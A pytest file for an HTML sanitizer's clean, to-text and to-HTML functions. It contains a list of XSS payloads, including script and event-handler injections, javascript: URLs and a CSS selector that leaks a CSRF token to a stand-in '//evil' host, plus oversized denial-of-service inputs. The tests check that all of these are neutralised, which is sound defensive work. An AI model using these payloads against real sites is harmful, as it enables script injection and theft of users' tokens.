import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import settings as with_settings
from hypothesis import strategies as st

from apps.core.richtext import ATTRIBUTES, TAGS, clean_html, html_to_text, text_to_html

pytestmark = pytest.mark.unit

HOSTILE = [
    "<scr<script>ipt>alert(1)</script>",
    "<sty<style>le>a{background:url(//evil/a)}</style>",
    "<<iframe>iframe src=//evil>",
    "<style>input[name=csrf][value^=a]{background:url(//evil/a)}</style>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tscript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' target='_top' ping='//evil'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='file:///etc/passwd'>",
    "<img src='php://filter/x'>",
    "<img src='cid:a\"onerror=alert(1)'>",
    "<img srcset='//evil/x 2x' lowsrc=//evil dynsrc=//evil>",
    "<p style='background:url(//evil)' class=x id=csrf name=csrf>x</p>",
    "<form action=//evil><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil></object><embed src=//evil><link rel=stylesheet href=//evil><meta http-equiv=refresh content=0>",
    "<base href=//evil>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp></p><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<div><a\x0bhref='javascript:alert(1)'>x</a>",
    "<img/src/onerror=alert(1)>",
    "\0<script\0>alert(1)</script>",
    "<table background=//evil><td background=//evil>x",
    "<body onload=alert(1) background=//evil>x",
    "<video><source onerror=alert(1)></video><audio src=//evil autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p lang='\"><script>alert(1)</script>'>x",
]


class Inspector(HTMLParser):
    """Reads the result like another program would, and objects to what is not on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | ({"rel"} if tag == "a" else set()), name
            if name == "href":
                assert re.match(r"(?:https?:|mailto:|tel:|cid:)", value or ""), value
            if name == "src":
                assert re.fullmatch(r"cid:[\w.@$+-]+", value or ""), value

    handle_startendtag = handle_starttag


def assert_clean(html: str) -> None:
    cleaned = clean_html(html)
    Inspector().feed(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<div>{}</div>", "<table><tr><td>{}", "<b><i>{}</b>", "<p>{}"])
def test_hostile_markup_is_harmless(html: str, around: str) -> None:
    assert_clean(around.format(html))


@given(
    st.lists(
        st.one_of(st.sampled_from(HOSTILE), st.text(max_size=8), st.sampled_from(["<", ">", '"', "'", "</", "<!--"]))
    )
)
def test_any_mixture_is_harmless(parts: list[str]) -> None:
    assert_clean("".join(parts))


def test_what_letters_need_is_kept() -> None:
    html = (
        '<h2>题</h2><p dir="rtl">a <b>b</b> <a href="https://x.example/?a=1&amp;b=2" title="t">l</a></p><ul><li>1</li></ul>'
        '<table><tbody><tr><td colspan="2">c</td></tr></tbody></table><blockquote>q</blockquote><pre>x  y</pre>'
        '<img src="cid:part1.abc@mail.example" alt="p" width="10">'
    )
    assert clean_html(html) == html.replace(' title="t">', ' title="t" rel="noopener noreferrer nofollow">')


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>一</p><p>二</p>", "一\n\n二"),
        ("a<br>b<div>c</div>d", "a\nb\nc\nd"),
        ("<ul><li>x</li><li>y</li></ul>", "- x\n- y"),
        ('see <a href="https://x.example/a?b=1&amp;c=2">here</a>.', "see here (https://x.example/a?b=1&c=2)."),
        ('<a href="https://x.example/">https://x.example</a>', "https://x.example"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a \tb\nc"),
        ("&lt;b&gt; &amp; &nbsp; x", "<b> & x"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("<div>a</div><div><br></div><div>b</div>", "a\n\nb"),
        ("<div>a<br></div><div>b</div>", "a\nb"),
        ("<div><div><div>a</div></div></div><p>b</p><br><br><br>c", "a\n\nb\n\nc"),
        ("<style>p{}</style><script>x()</script><title>t</title>only", "only"),
        ('<img alt="图" src="cid:1@x">', "[图]"),
        ("", ""),
        ("   \n <p> a \n b </p> ", "a b"),
    ],
)
def test_the_plain_twin(html: str, text: str) -> None:
    assert html_to_text(html) == text


@with_settings(max_examples=60, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cc", "Cs", "Cn")), max_size=200))
def test_text_survives_becoming_html(text: str) -> None:
    html = text_to_html(text)
    Inspector().feed(html)
    assert "".join(html_to_text(html).split()) == "".join(text.split())


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
        ("<script>", "<p>&lt;script&gt;</p>"),
        (
            "见 https://x.example/a?b=1&c=2。好",
            '<p>见 <a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">https://x.example/a?b=1&amp;c=2</a>。好</p>',
        ),
        ("javascript:alert(1)", "<p>javascript:alert(1)</p>"),
        ('https://x.example/"onclick=alert(1)', None),
    ],
)
def test_text_becomes_html(text: str, html: str | None) -> None:
    result = text_to_html(text)
    Inspector().feed(result)
    assert html is None or result == html


BOMBS = {
    "brackets": "<" * 1_000_000,
    "deep": "<div>" * 200_000,
    "formatting": "".join(f"<b a{number}>" for number in range(19_000)),
    "reopened": "".join(f"<p><b a{number}></p>" for number in range(9_000)),
    "divs": "<div>" * 19_000,
    "attributes": "<a " + "x=1 " * 300_000 + ">",
    "ampersands": "&" * 1_000_000,
    "entities": "&amp;" * 300_000,
    "no-break spaces": "\xa0" * 1_000_000,
    "comments": "<!--" * 250_000,
    "tables": "<table><tr><td>" * 60_000,
    "quotes": "<div class='" * 80_000,
    "spaces": " " * 1_000_000,
    "underscores": "_" * 1_000_000,
    "links": "http://" * 150_000,
    "text": "字" * 1_000_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_megabyte_of_anything_takes_bounded_time(name: str) -> None:
    started = time.process_time()
    clean_html(BOMBS[name])
    html_to_text(BOMBS[name])
    text_to_html(BOMBS[name])
    assert time.process_time() - started < 5


def test_beyond_reason_markup_is_given_up_and_text_is_kept() -> None:
    html = "<b>" * 30_000 + "kept" + "</b>" * 30_000
    assert html_to_text(html) == "kept"
    assert clean_html(html) == "<p>kept</p>" or "kept" in clean_html(html)
    Inspector().feed(clean_html(html))


@pytest.mark.parametrize(("source", "lines"), [("\r\n", 1100), ("<br>", 1100), ("</p><p>", 1100)])
def test_brackets_beyond_reason_stay_as_text(source: str, lines: int) -> None:
    html = ("<" * 90 + " 3 < 4 &amp; 5" + source) * lines
    cleaned = clean_html(html)
    Inspector().feed(cleaned)
    assert cleaned.count("&lt;" * 90 + " 3 &lt; 4 &amp; 5") == lines
    assert cleaned.count("<br>") + cleaned.count("<p>") >= lines
    assert clean_html(cleaned) == cleaned
    assert html_to_text(cleaned).split() == html_to_text(html).split() == ["<" * 90, "3", "<", "4", "&", "5"] * lines
